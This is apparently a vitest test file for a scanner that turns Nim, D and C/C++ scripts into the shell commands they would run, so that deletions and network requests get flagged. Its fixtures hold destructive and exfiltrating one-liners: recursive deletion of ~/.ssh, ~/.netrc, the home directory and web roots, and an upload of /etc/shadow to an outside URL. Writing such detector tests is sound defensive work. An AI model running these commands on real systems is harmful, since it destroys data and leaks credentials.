/**
 * Nim, D and C/C++ programs run as scripts (src/normalize/codescan-native.ts): what they delete
 * and run, whether given inline, written then run, or written then built.
 */
import { describe, expect, it } from 'vitest';
import { filesContext, normalizeIn } from '../helpers/normalize.js';

const ctx = filesContext({});
const commands = (script: string) =>
  normalizeIn(ctx, script).commands.map((c) => `${c.dynamic ? 'dynamic:' : ''}${c.argv.join(' ')}`);
const written = (file: string, code: string, run: string) => `cat > ${file} <<'EOF'\n${code}\nEOF\n${run}`;

describe('Nim, D and C programs: what they delete and run', () => {
  it.each<[string, string]>([
    [
      written('/tmp/a.nim', 'import os\nremoveDir(getHomeDir() / ".ssh")', 'nim r --hints:off /tmp/a.nim'),
      'rm -rf /h/.ssh',
    ],
    [
      written('/tmp/a.nim', 'import os\nlet t = getEnv("HOME") / "src"\nremoveDir t', 'nim c -r /tmp/a.nim'),
      'rm -rf /h/src',
    ],
    [
      written('/tmp/a.nim', 'import os\n"/srv/www".removeDir', 'nim compile --run /tmp/a.nim'),
      'rm -rf /srv/www',
    ],
    [
      written('/tmp/a.nim', 'import os\ndiscard execShellCmd("rm -rf /srv")', 'sudo nim r /tmp/a.nim'),
      'rm -rf /srv',
    ],
    [
      written(
        '/tmp/a.nim',
        'import osproc\ndiscard execProcess("rm", args = ["-rf", "/opt/x"], options = {poUsePath})',
        'nim r /tmp/a.nim',
      ),
      'rm -rf /opt/x',
    ],
    [`nim --eval:'import os; removeFile(expandTilde("~/.netrc"))'`, 'rm -rf /h/.netrc'],
    [`rdmd --eval='import std.file; rmdirRecurse("/srv/app/uploads");'`, 'rm -rf /srv/app/uploads'],
    [`rdmd --eval 'import std.process; executeShell("rm -rf /var/www");'`, 'rm -rf /var/www'],
    // std.net.curl's requests (read when the code imports it)
    [
      `rdmd --eval='import std.net.curl; del("https://api.acme.io/v1/env/prod");'`,
      'curl -X DELETE https://api.acme.io/v1/env/prod',
    ],
    [
      `rdmd --eval='import std.net.curl, std.process; auto c = HTTP(); c.addRequestHeader("Authorization", "Bearer " ~ environment["T"]); del("https://g.acme.io/api/d/x", c);'`,
      'curl -X DELETE https://g.acme.io/api/d/x',
    ],
    [
      `rdmd --eval='import std.net.curl; post("https://api.acme.io/v1/jobs", "{}");'`,
      'curl -X POST https://api.acme.io/v1/jobs -d {}',
    ],
    [
      `rdmd --eval='import std.net.curl; upload("/etc/shadow", "https://x.acme.io/u");'`,
      'curl -X PUT https://x.acme.io/u --data-binary @/etc/shadow',
    ],
    [
      `rdmd --eval='import std.net.curl; auto h = HTTP("https://api.acme.io/v1/x"); h.method = HTTP.Method.del; h.perform();'`,
      'curl -X DELETE https://api.acme.io/v1/x',
    ],
    [
      `rdmd --eval='import std.net.curl; auto h = HTTP(); h.url = "https://api.acme.io/v1/y"; h.method = HTTP.Method.put; h.perform();'`,
      'curl -X PUT https://api.acme.io/v1/y',
    ],
    [
      written(
        '/tmp/k.d',
        'import std.process;\nvoid main() { wait(spawnProcess(["rm", "-rf", "/etc/nginx"])); }',
        'dmd -run /tmp/k.d --verbose',
      ),
      'rm -rf /etc/nginx',
    ],
    [
      written(
        '/tmp/k.d',
        'import std.file, std.process;\nvoid main() { environment.get("HOME").rmdirRecurse(); }',
        'ldc2 -run /tmp/k.d',
      ),
      'rm -rf /h',
    ],
    [
      written('/tmp/k.d', 'import std.file;\nvoid main() { remove("/etc/hosts"); }', 'rdmd /tmp/k.d'),
      'rm -rf /etc/hosts',
    ],
    [
      written(
        '/tmp/s.c',
        '#include <stdlib.h>\nint main(void) { return system("rm -rf /opt/app"); }',
        'tcc -run /tmp/s.c',
      ),
      'rm -rf /opt/app',
    ],
    [
      `tcc -run - <<'EOF'\n#include <stdlib.h>\nint main(void) { system("rm -rf /srv"); }\nEOF`,
      'rm -rf /srv',
    ],
    [
      written(
        '/tmp/w.c',
        '#include <ftw.h>\n#include <stdlib.h>\nstatic int rm(const char *p, const struct stat *s, int f, struct FTW *w) { return remove(p); }\nint main(void) { return nftw(getenv("HOME"), rm, 64, FTW_DEPTH | FTW_PHYS); }',
        'tcc -run /tmp/w.c',
      ),
      'rm -rf /h',
    ],
    [
      written(
        '/tmp/x.c',
        '#include <unistd.h>\nint main(void) { execl("/bin/rm", "rm", "-rf", "/srv/www", (char *)0); }',
        'gcc -O2 -o /tmp/x /tmp/x.c && /tmp/x',
      ),
      '/bin/rm -rf /srv/www',
    ],
    [
      written(
        'w.cpp',
        '#include <filesystem>\nint main() { std::filesystem::remove_all(std::getenv("HOME")); }',
        'g++ -std=c++17 w.cpp -o w && ./w',
      ),
      'rm -rf /h',
    ],
  ])('%s', (script, want) => expect(commands(script)).toContain(want));

  it.each<[string, string[]]>([
    // a build folder, a program that only reads, or a file on disk (the project's own code)
    [written('/tmp/c.nim', 'import os\nremoveDir("build")', 'nim r /tmp/c.nim'), ['rm -rf build']],
    [written('/tmp/c.nim', 'import os\necho getHomeDir()', 'nim r /tmp/c.nim'), []],
    [written('/tmp/c.nim', 'import os\nos.removeDir("build")', 'nim r /tmp/c.nim'), ['rm -rf build']],
    [`rdmd --eval='import std.file; std.file.rmdirRecurse("dist");'`, ['rm -rf dist']],
    ['nim c -d:release src/app.nim', []],
    ['nimble build', []],
    [`rdmd --eval='writeln("hi");'`, []],
    [`rdmd --eval='import std.net.curl, std.stdio; writeln(get("https://api.acme.io/v1/status"));'`, []],
    // without std.net.curl, `del` and `post` are the program's own functions
    [`rdmd --eval='void del(string s) {} del("https://x.io/a");'`, []],
    ['dmd -run app.d', []],
    [
      written(
        '/tmp/l.c',
        '#include <ftw.h>\n#include <stdio.h>\nstatic int show(const char *p, const struct stat *s, int f, struct FTW *w) { puts(p); return 0; }\nint main(void) { return nftw("/", show, 64, FTW_PHYS); }',
        'tcc -run /tmp/l.c',
      ),
      [],
    ],
    [
      written(
        '/tmp/h.c',
        '#include <stdio.h>\nint main(void) { remove("/tmp/h.tmp"); }',
        'cc /tmp/h.c -o /tmp/h',
      ),
      ['rm -rf /tmp/h.tmp'],
    ],
    ['gcc -O2 -Wall -o build/app src/main.c', []],
  ])('%s deletes nothing else', (script, want) => {
    const got = commands(script).filter(
      (c) => /^(dynamic:)?(rm|\/bin\/rm)\b/.test(c) || c.startsWith('dynamic:'),
    );
    expect(got).toEqual(want);
  });
});
